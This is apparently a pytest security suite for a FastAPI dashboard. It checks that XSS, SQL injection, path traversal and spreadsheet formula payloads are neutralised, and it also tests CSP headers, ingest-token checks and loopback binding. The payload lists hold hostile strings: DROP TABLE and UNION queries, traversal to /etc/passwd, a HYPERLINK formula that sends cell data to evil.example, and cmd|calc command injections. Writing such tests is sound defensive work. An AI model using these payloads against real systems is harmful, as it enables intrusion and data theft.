"""The web server under attack: SQL injection on every endpoint, path traversal, CSP, the ingest token, upload size,
binding, and XSS payloads (in titles, bodies, actor names) that must stay inert in real Chromium."""

from __future__ import annotations

import inspect
import os
import shutil
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("fastapi", reason="the web app needs fastapi")
from fastapi.routing import APIRoute  # noqa: E402
from fastapi.testclient import TestClient  # noqa: E402

from multipolar.store import Store  # noqa: E402

web = pytest.importorskip("multipolar.web.app", reason="the web app (issue 6) is not there yet")

MARK = "xss-fired"
XSS = [
    f"<script>window.{MARK}=1;alert(1)</script>",
    f"<img src=x onerror=\"window.{MARK}=1;alert(2)\">",
    f"\"><svg onload=\"window.{MARK}=1\">",
    f"'><iframe src=\"javascript:window.top.{MARK}=1\"></iframe>",
    f"<a href=\"javascript:window.{MARK}=1\">click</a>",
    f"</textarea></title><script>window.{MARK}=1</script>",
    f"{{{{7*7}}}}<details open ontoggle=\"window.{MARK}=1\">",
    f"<math><mtext><table><mglyph><style><img src=x onerror=\"window.{MARK}=1\">",
    f"javascript:window.{MARK}=1//",
    f"<body onload=\"window.{MARK}=1\">",
]
SQLI = ["' OR '1'='1", "'; DROP TABLE documents; --", "1; DELETE FROM observations", "\" OR 1=1 --",
        "GEO' UNION SELECT text FROM documents --", "%' OR 1=1 --", "1)) OR ((1=1", "$1", "?", "\\'; --",
        "GEO\x00", "../../etc/passwd", "ARM' AND sleep(5) --", "1e308", "-1", "99999999999999999999", "NULL",
        "🙂", "A" * 300, "ＧＥＯ", "' || (SELECT string_agg(text, '') FROM documents) || '"]
TOKEN = "s3cret-token-for-tests"
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _build(root: Path) -> Path:
    from multipolar.datasets.api import load_starter

    db = root / "web-security.duckdb"
    with Store(db) as store:
        load_starter(store)
        with store.transaction() as con:
            run = store.new_run(con, kind="ingest", path="xss-fixture", sha256=None, method="test")
            for i, payload in enumerate(XSS):
                text = f"Georgia said {payload} to Russia. {payload}"
                doc = f"{i:016x}"
                con.execute("INSERT INTO documents (id, sha256, origin, kind, url, title, published, source, "
                            "author, text, load_run) VALUES (?, ?, ?, 'markdown', ?, ?, '2020-01-01', ?, ?, ?, ?)",
                            [doc, doc * 4, f"xss-{i}.md", f"javascript:window.{MARK}=1", payload, payload, payload,
                             text, run])
                actor = f"XS{chr(65 + i)}"
                con.execute("INSERT OR IGNORE INTO actors VALUES (?, 'state', ?, ?)", [actor, payload, actor])
                con.execute("INSERT INTO mentions VALUES (?, ?, 0, 7, 'Georgia', ?)", [doc, actor, run])
                end = len(text)
                con.execute("INSERT INTO events (id, origin, document, type, actors, recipients, date, day, start, "
                            "\"end\", sentence, load_run) VALUES (?, 'article', ?, 'ACCUSE', ['GEO'], ['RUS'], "
                            "'2020-01-01', DATE '2020-01-01', 0, ?, ?, ?)", [f"{doc}:e0", doc, end, text, run])
                con.execute("INSERT INTO claims (id, document, measure, subject, partner, value, unit, period, "
                            "start, \"end\", sentence, load_run) VALUES (?, ?, 'trade', 'GEO', 'RUS', 1, ?, '2020', "
                            "0, ?, ?, ?)", [f"{doc}:c0", doc, payload, end, text, run])
                con.execute("INSERT INTO stances (id, document, holder, issue, target, polarity, date, start, "
                            "\"end\", sentence, load_run) VALUES (?, ?, 'GEO', ?, 'RUS', 'negative', '2020', 0, ?, "
                            "?, ?)", [f"{doc}:s0", doc, payload, end, text, run])
            for i, payload in enumerate(FORMULAS):  # CSV injection: titles that a spreadsheet would run
                doc = f"f{i:015x}"
                con.execute("INSERT INTO documents (id, sha256, origin, kind, title, published, source, text, "
                            "load_run) VALUES (?, ?, ?, 'markdown', ?, '2020-01-01', ?, ?, ?)",
                            [doc, doc * 4, f"formula-{i}.md", payload, payload, f"Georgia and Russia. {payload}", run])
            store.finish_run(con, run, rows_read=len(XSS) + len(FORMULAS), rows_stored=len(XSS) * 4 + len(FORMULAS))
    return db


@pytest.fixture(scope="module")
def db() -> Iterator[Path]:
    root = Path(tempfile.mkdtemp(prefix="multipolar-websec-"))
    try:
        yield _build(root)
    finally:
        shutil.rmtree(root, ignore_errors=True)


@pytest.fixture(scope="module")
def client(db: Path) -> Iterator[TestClient]:
    with TestClient(web.create_app(db)) as c:
        yield c


def _get_routes(app: Any) -> list[APIRoute]:
    """Every GET route, also those of the routers the app includes."""
    found, todo = [], list(app.routes)
    while todo:
        route = todo.pop(0)
        if isinstance(route, APIRoute) and "GET" in route.methods:
            found.append(route)
        todo.extend(getattr(getattr(route, "original_router", None), "routes", []))
    return found


def _fill(path: str, value: str) -> str:
    import re
    from urllib.parse import quote

    return re.sub(r"\{[^}]+\}", lambda m: quote(value, safe=""), path)


def test_injection_payloads_on_every_endpoint(client: TestClient) -> None:
    """Every GET endpoint, every path and query parameter, every payload: no 5xx, no data leaked."""
    routes = _get_routes(client.app)
    assert len(routes) >= 10
    tried = 0
    failures: list[str] = []
    for route in routes:
        params = [p.alias for p in route.dependant.query_params]
        for payload in SQLI:
            url = _fill(route.path, payload)
            for q in [None, *params]:
                resp = client.get(url, params={q: payload} if q else None)
                tried += 1
                if resp.status_code >= 500:
                    failures.append(f"{route.path} {q}={payload!r}: {resp.status_code} {resp.text[:200]}")
                if "Content-Security-Policy" not in resp.headers:
                    failures.append(f"{route.path}: no CSP")
    assert tried > 500
    assert not failures, f"{len(failures)} of {tried} requests failed:\n" + "\n".join(failures[:15])


def test_store_unchanged_and_intact_after_injections(db: Path, client: TestClient) -> None:
    for payload in SQLI:
        client.get("/api/events", params={"actor": payload, "type": payload})
        client.get("/search", params={"q": payload})
    data = client.app.state.data  # the app holds the store only while a request is in flight
    data.acquire()
    try:
        store = data.store
        assert store.scalar("SELECT count(*) FROM documents") == len(XSS) + store.scalar(
            "SELECT count(*) FROM documents WHERE origin NOT LIKE 'xss-%'")
        assert store.scalar("SELECT count(*) FROM observations") > 0
    finally:
        data.release()


@pytest.mark.parametrize("path", [
    "/static/../../../../etc/passwd", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd", "/static/%2e%2e/%2e%2e/etc/passwd",
    "/static/....//....//etc/passwd", "/static/app.js%00.png", "/static/..\\..\\pyproject.toml",
    "/download/..%2f..%2fetc%2fpasswd.csv", "/download/../../../etc/passwd", "/download/documents.csv%2f..%2f..",
    "/document/..%2f..%2f..%2fetc%2fpasswd", "/state/..%2f..%2fetc", "/static/%252e%252e%252fpyproject.toml",
    "/..%2f..%2fetc/passwd", "//etc/passwd", "/static//etc/passwd",
])
def test_no_path_traversal(client: TestClient, path: str) -> None:
    resp = client.get(path)
    assert resp.status_code in (400, 404, 405, 422), (path, resp.status_code)
    assert "root:" not in resp.text and "[project]" not in resp.text and "[build-system]" not in resp.text


def test_csv_downloads_defuse_spreadsheet_formulas(client: TestClient) -> None:
    """Text cells that a spreadsheet would read as a formula get a leading apostrophe (OWASP CSV injection)."""
    import csv
    import io

    r = client.get("/download/documents.csv")
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text, newline="")))
    titles = {row["title"] for row in rows}
    for payload in FORMULAS:
        assert "'" + payload in titles
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_csp_and_headers_on_every_kind_of_response(client: TestClient) -> None:
    for path in ["/", "/api/influence", "/static/app.js", "/download/documents.csv", "/nope", "/state/<x>",
                 "/api/events?limit=-5", "/document/0000000000000000"]:
        resp = client.get(path)
        csp = resp.headers.get("Content-Security-Policy", "")
        assert "script-src 'self'" in csp and "unsafe-inline" not in csp.split("script-src")[1].split(";")[0], path
        assert "default-src 'none'" in csp and "frame-ancestors 'none'" in csp
        assert resp.headers.get("X-Content-Type-Options") == "nosniff"


def test_write_endpoint_absent_without_token(client: TestClient) -> None:
    resp = client.post("/api/ingest", json={"text": "Georgia and Russia."})
    assert resp.status_code in (404, 405)
    assert client.app.state.data.read_only


def test_token_protects_ingest(db: Path, tmp_path: Path) -> None:
    copy = tmp_path / "w.duckdb"
    shutil.copy(db, copy)
    with TestClient(web.create_app(copy, token=TOKEN)) as c:
        bad_body = {"text": ""}  # invalid: a 422 proves the token was accepted without running extraction
        for headers in [{}, {"Authorization": "Bearer"}, {"Authorization": "Bearer wrong"},
                        {"Authorization": TOKEN}, {"Authorization": f"Basic {TOKEN}"},
                        {"Authorization": f"Bearer {TOKEN[:-1]}"}, {"Authorization": f"Bearer {TOKEN}x"},
                        {"Authorization": "Bearer ' OR '1'='1"}, {"X-Token": TOKEN}]:
            resp = c.post("/api/ingest", json=bad_body, headers=headers)
            assert resp.status_code == 401, headers
            assert "Content-Security-Policy" in resp.headers
        assert c.post("/api/ingest", json=bad_body, headers={"Authorization": f"Bearer {TOKEN}"}).status_code == 422
        # the upload limit: a clear refusal, nothing stored
        huge = {"text": "Georgia. " * 300_000}
        resp = c.post("/api/ingest", json=huge, headers={"Authorization": f"Bearer {TOKEN}"})
        assert resp.status_code in (413, 422) and "text" in resp.text
    from multipolar.web.routers import ingest

    src = inspect.getsource(ingest.authorised)
    assert "hmac.compare_digest" in src  # constant-time comparison of the token


def test_binds_loopback_by_default_and_warns_otherwise(monkeypatch: pytest.MonkeyPatch, db: Path,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    import uvicorn

    from multipolar.cli import present_commands

    seen: dict[str, Any] = {}
    monkeypatch.setattr(uvicorn, "run", lambda app, **kw: seen.update(kw))
    assert inspect.signature(present_commands.serve).parameters["host"].default == "127.0.0.1"
    present_commands.serve(db, port=0)
    assert seen["host"] == "127.0.0.1"
    out = capsys.readouterr()
    assert "warning" not in (out.out + out.err).lower()
    present_commands.serve(db, host="0.0.0.0", port=0)
    out = capsys.readouterr()
    assert seen["host"] == "0.0.0.0" and "warning" in (out.out + out.err).lower()


# -- XSS in real Chromium ----------------------------------------------------------------------------------

CHROMIUM = os.environ.get("MULTIPOLAR_CHROMIUM", "/usr/bin/chromium")


@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason=f"no Chromium at {CHROMIUM} (apt-get install -y chromium)")
def test_xss_payloads_inert_in_chromium(db: Path) -> None:
    sync_api = pytest.importorskip("playwright.sync_api", reason="pip install playwright")
    from tests.test_present_web import start

    pages = ["/", "/events", "/api", "/downloads", "/state/GEO", "/dyad/RUS/GEO"]
    pages += [f"/document/{i:016x}" for i in range(len(XSS))]
    pages += [f"/search?q={p}" for p in XSS[:4]] + ["/state/%3Cscript%3E", "/nope%3Cscript%3Ealert(1)%3C/script%3E"]
    fired: list[str] = []
    with start(db) as server, sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--headless", "--no-sandbox", "--disable-gpu"])
        try:
            page = browser.new_page()
            page.on("dialog", lambda d: (fired.append(f"dialog {d.message}"), d.dismiss()))
            for path in pages:
                page.goto(server.url + path, wait_until="load")
                for link in page.query_selector_all("a[href^='javascript:'], iframe[src^='javascript:']"):
                    fired.append(f"{path}: live javascript: URL {link.get_attribute('href')}")
                if page.evaluate(f"() => window['{MARK}'] === 1"):
                    fired.append(f"{path}: payload ran")
                for handler in page.evaluate("() => Array.from(document.querySelectorAll('*')).flatMap(e => "
                                             "Array.from(e.attributes).filter(a => a.name.startsWith('on'))"
                                             ".map(a => a.name))"):
                    fired.append(f"{path}: event handler attribute {handler} in the DOM")
        finally:
            browser.close()
    assert not fired, fired


def test_dashboard_does_not_block_a_load(db: Path, tmp_path: Path) -> None:
    from tests.test_crash import cli, run

    copy = tmp_path / "dash.duckdb"
    shutil.copy(db, copy)
    nmc = Path(__file__).resolve().parents[2] / "shared" / "data" / "peacesciencer_cow_atop_igo_nmc_leaders"
    if not nmc.exists():
        pytest.skip("the real datasets are not beside the repo")
    with TestClient(web.create_app(copy)) as c:
        assert c.get("/api/coverage").status_code == 200
        done = run(cli("load", "cow-nmc", str(nmc / "cow_nmc_cinc.csv"), db=copy))
        assert done.returncode == 0, done.stderr  # the nightly load runs while the dashboard is up
        assert "cow-nmc" in c.get("/api/coverage").text  # and the dashboard sees it after the commit
